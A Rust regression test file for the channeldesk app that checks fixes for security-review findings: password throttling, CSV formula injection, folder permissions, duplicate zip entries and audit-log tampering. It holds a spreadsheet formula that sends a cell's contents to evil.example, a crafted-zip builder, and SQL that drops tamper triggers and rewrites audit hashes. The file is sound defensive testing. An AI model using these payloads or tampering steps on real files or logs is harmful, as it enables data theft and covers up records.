//! Findings of the security pass (issue 21), each reproduced and now refused: parallel
//! password guessing, formulas in CSV exports, a data folder other accounts can read, a
//! bundle whose archive names an entry twice, the newest audit entries cut (the sequence
//! reset and a sign-in written after them), and a chain rebuilt with the database key alone.

mod common;

use channeldesk::audit;
use channeldesk::sheets::{self, Labels, ListKind};
use channeldesk::{Error, partners, users};
use common::{OWNER_PASSWORD, desk, partner};

/// 40 sign-ins with a wrong password at once: the attempts are reserved before the hash is
/// computed, so only the free ones are checked and the rest wait (before: all 40 "wrong").
#[tokio::test]
async fn parallel_password_guessing_is_throttled() {
    let t = desk().await;
    users::sign_out(&t.desk).await.unwrap();
    let tries = (0..40).map(|i| {
        let desk = &t.desk;
        async move { users::sign_in(desk, "owner", &format!("guess-{i}")).await }
    });
    let results = futures_util::future::join_all(tries).await;
    let wrong = results.iter().filter(|r| matches!(r, Err(Error::Validation(_)))).count();
    let throttled = results.iter().filter(|r| matches!(r, Err(Error::Throttled { .. }))).count();
    assert_eq!(wrong + throttled, 40, "{results:?}");
    assert!(wrong <= users::FREE_ATTEMPTS as usize + 1, "{wrong} passwords checked, {throttled} throttled");
    // The right password waits too until the delay has passed.
    assert!(matches!(users::sign_in(&t.desk, "owner", OWNER_PASSWORD).await, Err(Error::Throttled { .. })));
}

fn labels() -> Labels {
    Labels::default()
}

/// A kiosk visitor's company name written as a formula reaches a CSV as text.
#[tokio::test]
async fn csv_exports_carry_no_formulas() {
    let t = desk().await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A2,\"详情\")";
    partners::create(&t.desk, &partner(evil), false).await.unwrap();
    let mut p = partner("正常公司有限公司");
    p.notes = "@SUM(1+1)".into();
    partners::create(&t.desk, &p, false).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("partners.csv");
    let table = sheets::table(&t.desk, &ListKind::Partners).await.unwrap();
    sheets::write_csv(&csv, &table, &labels()).unwrap();
    let text = String::from_utf8(std::fs::read(&csv).unwrap()).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
    assert!(cells.iter().any(|c| c == &format!("'{evil}")), "{cells:?}");
    for c in &cells {
        assert!(!matches!(c.chars().next(), Some('=' | '+' | '@' | '\t' | '\r')), "formula cell {c:?}");
    }
    // The audit trail's CSV goes through the same rule.
    let audit_csv = dir.path().join("audit.csv");
    channeldesk::audit::export_csv(&t.desk, &Default::default(), &audit_csv).await.unwrap();
    let text = String::from_utf8(std::fs::read(&audit_csv).unwrap()).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for r in reader.records() {
        for c in r.unwrap().iter() {
            assert!(!matches!(c.chars().next(), Some('=' | '+' | '@' | '\t' | '\r')), "formula cell {c:?}");
        }
    }
}

/// The data folder is the owner's alone (before: 0755, the recovery kit 0644 inside).
#[cfg(unix)]
#[tokio::test]
async fn the_data_folder_is_private_to_its_owner() {
    use std::os::unix::fs::PermissionsExt;
    let t = desk().await;
    let mode = std::fs::metadata(t.dir.path()).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "data folder mode {mode:o}");
    // A folder made readable by hand is closed again at the next open.
    std::fs::set_permissions(t.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let t = t.reopen().await;
    assert_eq!(std::fs::metadata(t.dir.path()).unwrap().permissions().mode() & 0o777, 0o700);
}

/// A bundle whose archive holds two entries of one name is refused (the reader keeps one per
/// name, so the second could hide from the check).
#[tokio::test]
async fn a_bundle_naming_an_entry_twice_is_refused() {
    use std::io::Write as _;
    let t = desk().await;
    partners::create(&t.desk, &partner("重复条目测试有限公司"), false).await.unwrap();
    let ex = channeldesk::share::export(
        &t.desk,
        &channeldesk::share::ExportScope::All,
        None,
        &channeldesk::share::Progress::silent(),
    )
    .await
    .unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(ex.bytes.clone())).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let mut first = None;
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut buf = Vec::new();
        std::io::Read::read_to_end(&mut f, &mut buf).unwrap();
        out.start_file(name.clone(), opts).unwrap();
        out.write_all(&buf).unwrap();
        if name != "manifest.json" && first.is_none() {
            first = Some((name, buf));
        }
    }
    let (name, buf) = first.unwrap();
    // zip's writer refuses a duplicate name: append the second copy through the raw
    // central directory instead (as a hand-made archive would).
    let archive = out.finish().unwrap().into_inner();
    let crafted = duplicate_entry(&archive, &name, &buf);
    let err = channeldesk::share::open(&crafted, None, &channeldesk::share::Limits::default()).unwrap_err();
    assert!(matches!(err, Error::Import { reason: "bad_name", .. }), "{err:?}");
    // The untouched bundle still opens.
    channeldesk::share::open(&ex.bytes, None, &channeldesk::share::Limits::default()).unwrap();
}

/// `archive` with one more stored entry `name` (local header + data before the central
/// directory, its central record added, the end record counting it).
fn duplicate_entry(archive: &[u8], name: &str, data: &[u8]) -> Vec<u8> {
    let eocd = archive.windows(4).rposition(|w| w == b"PK\x05\x06").unwrap();
    let cd_size = u32::from_le_bytes(archive[eocd + 12..eocd + 16].try_into().unwrap()) as usize;
    let cd_off = u32::from_le_bytes(archive[eocd + 16..eocd + 20].try_into().unwrap()) as usize;
    let entries = u16::from_le_bytes(archive[eocd + 10..eocd + 12].try_into().unwrap());
    let crc = crc32(data);
    let mut out = archive[..cd_off].to_vec();
    let local_off = out.len() as u32;
    let n = name.as_bytes();
    out.extend_from_slice(b"PK\x03\x04");
    out.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    out.extend_from_slice(&crc.to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(&(n.len() as u16).to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(n);
    out.extend_from_slice(data);
    let new_cd_off = out.len();
    out.extend_from_slice(&archive[cd_off..cd_off + cd_size]);
    out.extend_from_slice(b"PK\x01\x02");
    out.extend_from_slice(&[20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    out.extend_from_slice(&crc.to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(&(n.len() as u16).to_le_bytes());
    out.extend_from_slice(&[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    out.extend_from_slice(&local_off.to_le_bytes());
    out.extend_from_slice(n);
    let new_cd_size = out.len() - new_cd_off;
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&(entries + 1).to_le_bytes());
    out.extend_from_slice(&(entries + 1).to_le_bytes());
    out.extend_from_slice(&(new_cd_size as u32).to_le_bytes());
    out.extend_from_slice(&(new_cd_off as u32).to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

/// Finding 2: with the database key, drop the delete trigger, remove the 5 newest entries and
/// reset the sequence so the numbers run on without a gap; restart and sign in (which writes
/// a new entry after the cut). Before, `verify` said intact; now the head kept beside the
/// database names the cut, at the next start and in every verification after.
#[tokio::test]
async fn cutting_the_newest_audit_entries_is_found_after_a_restart_and_a_sign_in() {
    let t = desk().await;
    for i in 0..8 {
        partners::create(&t.desk, &partner(&format!("截尾测试{i}有限公司")), false).await.unwrap();
    }
    let ok = audit::verify(&t.desk).await.unwrap();
    assert!(ok.intact, "{ok:?}");
    assert_eq!(ok.signed, ok.entries, "every entry is signed by this laptop");
    assert_eq!((ok.unsigned_before, ok.devices), (0, 1));
    let last: i64 =
        sqlx::query_scalar("SELECT max(seq) FROM audit_log").fetch_one(t.desk.pool()).await.unwrap();
    assert_eq!(ok.kept_head, Some(last), "the head beside the database is the newest entry");
    let head: audit::Head =
        serde_json::from_slice(&std::fs::read(t.dir.path().join(audit::HEAD_FILE)).unwrap()).unwrap();
    assert!(head.holds());

    let pool = t.desk.pool().clone();
    sqlx::query("DROP TRIGGER audit_log_no_delete").execute(&pool).await.unwrap();
    sqlx::query("DELETE FROM audit_log WHERE seq > ?").bind(last - 5).execute(&pool).await.unwrap();
    sqlx::query("UPDATE sqlite_sequence SET seq = ? WHERE name = 'audit_log'")
        .bind(last - 5)
        .execute(&pool)
        .await
        .unwrap();
    // Found at once…
    let r = audit::verify(&t.desk).await.unwrap();
    assert!(!r.intact);
    assert_eq!(r.broken_at.unwrap().reason, format!("head_cut:{last}"));
    // …and after a restart whose sign-in wrote a new entry linked to the cut tail.
    let t = t.reopen().await;
    let r = audit::verify(&t.desk).await.unwrap();
    assert!(!r.intact, "{r:?}");
    assert_eq!(r.alarms.len(), 1);
    assert_eq!(r.alarms[0].problem, format!("head_cut:{last}"));
    assert_eq!(r.broken_at.unwrap().reason, format!("head_cut:{last}"));
    // A file whose chain was never cut opens without an alarm.
    let clean = desk().await;
    let clean = clean.reopen().await;
    assert!(audit::verify(&clean.desk).await.unwrap().alarms.is_empty());
    t.desk.close().await;
    clean.desk.close().await;
}

/// With the database key alone, an entry's content is edited and the whole hash chain after
/// it recomputed (the formula is public): the hashes all hold again, but the entry's
/// signature does not, and the edit is named.
#[tokio::test]
async fn a_chain_rebuilt_with_the_database_key_alone_fails_its_signatures() {
    use sha2::{Digest, Sha256};
    let t = desk().await;
    for i in 0..4 {
        partners::create(&t.desk, &partner(&format!("重算测试{i}有限公司")), false).await.unwrap();
    }
    let pool = t.desk.pool().clone();
    sqlx::query("DROP TRIGGER audit_log_no_update").execute(&pool).await.unwrap();
    let rows: Vec<(
        i64,
        String,
        String,
        String,
        String,
        String,
        String,
        String,
        String,
        String,
        String,
        String,
    )> = sqlx::query_as(
        "SELECT seq, id, at, hlc, device_id, user_id, user_name, role, operation, entity, entity_id, changes
             FROM audit_log ORDER BY seq",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    let target = rows[rows.len() - 2].0;
    let mut prev = String::new();
    for r in &rows {
        let changes =
            if r.0 == target { "{\"name\":[null,\"改过的公司\"]}".to_string() } else { r.11.clone() };
        let canonical = serde_json::json!([prev, r.1, r.2, r.3, r.4, r.5, r.6, r.7, r.8, r.9, r.10, changes]);
        let hash = hex::encode(Sha256::digest(canonical.to_string().as_bytes()));
        sqlx::query("UPDATE audit_log SET changes = ?, prev_hash = ?, hash = ? WHERE seq = ?")
            .bind(&changes)
            .bind(&prev)
            .bind(&hash)
            .bind(r.0)
            .execute(&pool)
            .await
            .unwrap();
        prev = hash;
    }
    let r = audit::verify(&t.desk).await.unwrap();
    assert!(!r.intact);
    let b = r.broken_at.unwrap();
    assert_eq!((b.seq, b.reason.as_str()), (target, "signature"));
    t.desk.close().await;
}
